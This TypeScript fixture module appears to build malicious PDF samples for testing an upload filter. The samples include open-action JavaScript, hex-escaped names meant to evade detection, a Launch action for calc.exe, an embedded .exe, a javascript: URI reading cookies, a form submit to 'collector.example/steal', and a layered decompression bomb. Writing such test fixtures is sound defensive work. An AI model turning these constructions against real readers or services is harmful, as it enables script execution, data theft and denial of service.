import { deflateSync } from 'node:zlib';
import type { PDFDict } from '@cantoo/pdf-lib';
import {
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFString,
  StandardFonts,
  type PDFObject,
} from '@cantoo/pdf-lib';

/** A real one-page PDF saying `text`, as a report an admin would upload. */
export async function makeReportPdf(text = 'Vehicle history report'): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  page.drawText(text, {
    x: 72,
    y: 720,
    size: 18,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await doc.save());
}

/** The first bytes of a PNG image, to be passed off as a PDF by its name. */
export const PNG_BYTES = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);

/** A one-page report changed by `add` (an action, a names tree, an attachment...). */
async function reportWith(
  add: (doc: PDFDocument) => void | Promise<void>,
  options: { useObjectStreams?: boolean } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.load(await makeReportPdf());
  await add(doc);
  return Buffer.from(await doc.save(options));
}

const action = (doc: PDFDocument, entries: Record<string, PDFObject | string>) =>
  doc.context.obj(
    Object.fromEntries(
      Object.entries(entries).map(([k, v]) => [k, typeof v === 'string' ? PDFName.of(v) : v]),
    ),
  );

/** A link annotation on the first page running `link` when clicked. */
function addLink(doc: PDFDocument, link: PDFDict) {
  const annot = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 72, 200, 100],
    A: link,
  });
  doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
}

/** Reports carrying each kind of active content the upload refuses, by what they carry. */
export const hostilePdfs = {
  /** The audit's file: JavaScript run when the document opens. */
  openActionJavaScript: () =>
    reportWith((doc) => {
      doc.catalog.set(
        PDFName.of('OpenAction'),
        action(doc, { S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }),
      );
    }),
  /** The same, spelled with lower-case hex escapes: `/#4aS` for /JS, `/#4aavaScript`. */
  escapedJavaScriptNames: async () => {
    const bytes = await reportWith(
      (doc) => {
        doc.catalog.set(
          PDFName.of('OpenAction'),
          action(doc, { S: 'QavaScript', QS: PDFString.of('app.alert(1)') }),
        );
      },
      { useObjectStreams: false },
    );
    return Buffer.from(
      bytes.toString('latin1').replace('/QavaScript', '/#4aavaScript').replace('/QS', '/#4aS'),
      'latin1',
    );
  },
  /** A document-level script in the names tree. */
  namedJavaScript: () =>
    reportWith((doc) => {
      const script = doc.context.register(
        action(doc, { S: 'JavaScript', JS: PDFString.of('this.print()') }),
      );
      const tree = doc.context.obj({ Names: [PDFString.of('init'), script] });
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: tree }));
    }),
  launch: () =>
    reportWith((doc) => {
      doc.catalog.set(
        PDFName.of('OpenAction'),
        action(doc, { S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') }),
      );
    }),
  embeddedFile: () =>
    reportWith(async (doc) => {
      await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
        mimeType: 'application/octet-stream',
      });
    }),
  javascriptUri: () =>
    reportWith((doc) => {
      addLink(
        doc,
        action(doc, { S: 'URI', URI: PDFString.of(' Java\tScript:alert(document.cookie)') }),
      );
    }),
  submitForm: () =>
    reportWith((doc) => {
      addLink(
        doc,
        action(doc, { S: 'SubmitForm', F: PDFString.of('https://collector.example/steal') }),
      );
    }),
  xfaForm: () =>
    reportWith((doc) => {
      const xfa = doc.context.register(doc.context.stream('<xdp:xdp/>'));
      doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: xfa }));
    }),
};

/**
 * A report holding a stream that inflates to `inflatedMb` of zeros: the audit's bomb was a
 * 102 KB file inflating to 100 MB. `layers` deflates it again that many times.
 */
export function decompressionBomb(inflatedMb = 100, layers = 1): Promise<Buffer> {
  let data: Buffer = Buffer.alloc(inflatedMb * 1024 * 1024);
  for (let i = 0; i < layers; i += 1) data = deflateSync(data, { level: 9 });
  return reportWith((doc) => {
    const filters = Array.from({ length: layers }, () => PDFName.of('FlateDecode'));
    const stream = PDFRawStream.of(
      doc.context.obj({ Filter: layers === 1 ? filters[0]! : filters, Length: data.length }),
      data,
    );
    doc.catalog.set(PDFName.of('PieceInfo'), doc.context.register(stream));
  });
}
